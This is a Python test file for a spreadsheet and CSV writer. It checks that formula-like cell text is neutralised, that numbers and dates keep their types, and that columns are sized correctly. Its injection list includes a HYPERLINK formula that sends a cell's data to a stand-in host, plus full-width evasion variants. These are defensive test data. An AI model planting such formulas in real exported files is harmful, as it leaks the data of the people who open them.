"""The one writer of spreadsheets and CSV files (``core.sheet_writer``): formula-like text is
neutralised, numbers and dates stay what they are — read back with openpyxl and csv."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from laurel.core import sheet_writer
from laurel.core.sheet_writer import (
    WIDTH_MAX,
    WIDTH_PADDING,
    Sheet,
    cell_safe,
    column_widths,
    csv_text,
    formula_like,
    text_safe,
    text_width,
    value_width,
    xlsx_write,
)

INJECTIONS = [
    '=HYPERLINK("http://x?d="&C2,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",  # the small form: NFKC folds it to "=" as well
]
HARMLESS = ["张三", "0012", "a=b", " =1", "'=1", "", "1+1", "主题=30"]
LAUNCH_NOON = datetime(2026, 3, 8, 12, 0)  # noqa: DTZ001 - a spreadsheet cell has no zone


def workbook_cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in workbook}


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_gets_a_leading_quote(text):
    assert formula_like(text)
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_kept_as_it_is(text):
    assert not formula_like(text)
    assert cell_safe(text) == text


@pytest.mark.parametrize(
    "value",
    [-2, -2.5, 0, 13800138000, Decimal("-0.5000"), True, None, date(2026, 3, 8), LAUNCH_NOON],
)
def test_numbers_dates_booleans_and_nothing_are_kept(value):
    assert cell_safe(value) is value


def test_other_objects_are_written_as_their_text_and_neutralised():
    class Label:
        def __str__(self):
            return "=1+1"

    assert cell_safe(Label()) == "'=1+1"


@given(st.text())
def test_no_text_leaves_the_neutraliser_formula_like(text):
    safe = cell_safe(text)
    assert not formula_like(safe)
    assert safe in (text, "'" + text)  # nothing is lost: at most a quote in front


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_every_number_stays_a_number(number):
    assert cell_safe(number) is number


def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    rows = [[text, -2, 1.5, LAUNCH_NOON] for text in INJECTIONS]
    data = xlsx_write([Sheet(title="作品", header=["标题", "分", "均分", "时间"], rows=rows)])

    cells = workbook_cells(data)["作品"]
    header, body = cells[0], cells[1:]
    assert [cell.value for cell in header] == ["标题", "分", "均分", "时间"]
    assert all(cell.font.b for cell in header)
    for cell in (cell for row in cells for cell in row):
        assert cell.data_type != "f"
    for text, row in zip(INJECTIONS, body, strict=True):
        assert row[0].data_type == "s"
        assert row[0].value == "'" + text.replace("\r", "\n")  # XML keeps no lone "\r"
        assert row[1].value == -2
        assert row[1].data_type == "n"
        assert row[2].value == 1.5
        assert row[3].value == LAUNCH_NOON


def test_xlsx_header_text_is_neutralised_too_and_sheets_keep_their_order():
    data = xlsx_write(
        [
            Sheet(title="A" * 40, header=["=A1"], rows=[["x"]], widths=(12,)),
            Sheet(title="Summary", rows=[["File", "=evil.xlsx"], ["rows", 3]]),
        ]
    )
    workbook = load_workbook(io.BytesIO(data))
    first, second = workbook.worksheets
    assert first.title == "A" * 31
    assert first["A1"].value == "'=A1"
    assert first.freeze_panes == "A2"
    assert first.column_dimensions["A"].width == 12
    assert second.freeze_panes is None
    assert [[c.value for c in row] for row in second.iter_rows()] == [
        ["File", "'=evil.xlsx"],
        ["rows", 3],
    ]


def test_csv_text_neutralises_text_and_keeps_numbers():
    rows = [["title", "score"], *([text, Decimal("-0.5000")] for text in INJECTIONS), ["a,b", 3]]
    text = csv_text(rows, line_end="\n")

    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["title", "score"]
    for injected, row in zip(INJECTIONS, read[1:], strict=False):
        assert row == ["'" + injected, "-0.5000"]
    assert read[-1] == ["a,b", "3"]
    assert text.endswith('"a,b",3\n')  # the line end asked for


def test_csv_text_ends_lines_as_excel_by_default():
    assert csv_text([["a", 1]]) == "a,1\r\n"


def test_a_carriage_return_inside_a_field_cannot_start_a_row_with_a_formula():
    text = csv_text([["title", "n"], ["abc\r=1+1", 1], ["x\ny", 2]], line_end="\n")

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["title", "n"],
        ["abc\r=1+1", "1"],
        ["x\ny", "2"],
    ]


def test_text_safe_neutralises_each_line_and_tab_separated_field():
    text = "0012  《=1+1》\n=HYPERLINK(1) · 单位\n-2\tok\t@SUM(A1)\r+1\n"

    assert text_safe(text) == "0012  《=1+1》\n'=HYPERLINK(1) · 单位\n'-2\tok\t'@SUM(A1)\r'+1\n"


def test_control_characters_xml_cannot_hold_are_dropped_not_a_crash():
    data = xlsx_write([Sheet(title="作品", rows=[["夕阳\x07下的\x1b工地", 3]])])
    row = workbook_cells(data)["作品"][0]
    assert (row[0].value, row[1].value) == ("夕阳下的工地", 3)


# --- fitted columns, autofilter ---------------------------------------------------------


def test_text_width_counts_wide_characters_double_and_takes_the_longest_line():
    assert text_width("abc") == 3
    assert text_width("永川区总工会") == 12
    assert text_width("Ａ1") == 3  # a full-width letter is wide too
    assert text_width("e\u0301") == 1  # a combining accent takes no column
    assert text_width("短\nlonger line") == 11
    assert text_width("") == 0


def test_value_width_is_what_the_cell_shows():
    assert value_width(None) == 0
    assert value_width(True) == 5
    assert value_width(LAUNCH_NOON) == 19
    assert value_width(date(2026, 3, 8)) == 10
    assert value_width(1234) == 4
    assert value_width(0.1 + 0.2) == 12  # shown rounded, not 0.30000000000000004
    assert value_width("=1") == 3  # as written: with its leading quote


def test_columns_fit_the_widest_value_or_header_within_the_bounds():
    widths = column_widths(
        ["标题", "分"],
        [["永川区机关工会的摄影作品", 7], ["a", 12345], ["x" * 200, None]],
    )
    assert widths == [WIDTH_MAX, 5 + WIDTH_PADDING]  # the long text capped; "12345" padded
    assert column_widths(["n"], [[1]]) == [6]  # never narrower than the minimum
    # the filter's drop-down button covers part of the header: it is counted in
    assert column_widths(["单位名称全称"], [], filter_buttons=True) == [12 + 2 + 2]


def test_a_sheet_with_a_header_has_fitted_widths_an_autofilter_and_a_frozen_header():
    titles = ["夕阳下的工地", "重庆市永川区总工会职工摄影协会的作品", "a"]
    rows = [[title, n, LAUNCH_NOON] for n, title in enumerate(titles)]
    data = xlsx_write([Sheet(title="作品", header=["标题", "序号", "提交时间"], rows=rows)])

    sheet = load_workbook(io.BytesIO(data))["作品"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C4"
    widest_title = max(text_width(title) for title in titles)
    assert sheet.column_dimensions["A"].width >= widest_title
    assert sheet.column_dimensions["A"].width == widest_title + WIDTH_PADDING
    assert sheet.column_dimensions["C"].width >= 19  # the whole time shows
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == rows


def test_rows_past_the_measured_ones_are_still_written_and_filtered(monkeypatch):
    monkeypatch.setattr(sheet_writer, "FIT_SAMPLE_ROWS", 2)
    rows = ([f"行{n}", n] for n in range(5))  # a generator: measured, then streamed
    data = xlsx_write([Sheet(title="s", header=["名", "n"], rows=rows)])

    sheet = load_workbook(io.BytesIO(data))["s"]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [0, 1, 2, 3, 4]
    assert sheet.auto_filter.ref == "A1:B6"


def test_explicit_widths_and_no_filter_stay_as_asked():
    data = xlsx_write(
        [
            Sheet(title="a", header=["x"], rows=[["long text " * 5]], widths=(9,)),
            Sheet(title="b", header=["x"], rows=[["y"]], autofilter=False),
            Sheet(title="c", rows=[["no header"]]),
        ]
    )
    first, second, third = load_workbook(io.BytesIO(data)).worksheets
    assert first.column_dimensions["A"].width == 9
    assert first.auto_filter.ref == "A1:A2"
    assert second.auto_filter.ref is None
    assert third.auto_filter.ref is None  # no header: nothing to filter by
    assert third.column_dimensions["A"].width == text_width("no header") + WIDTH_PADDING
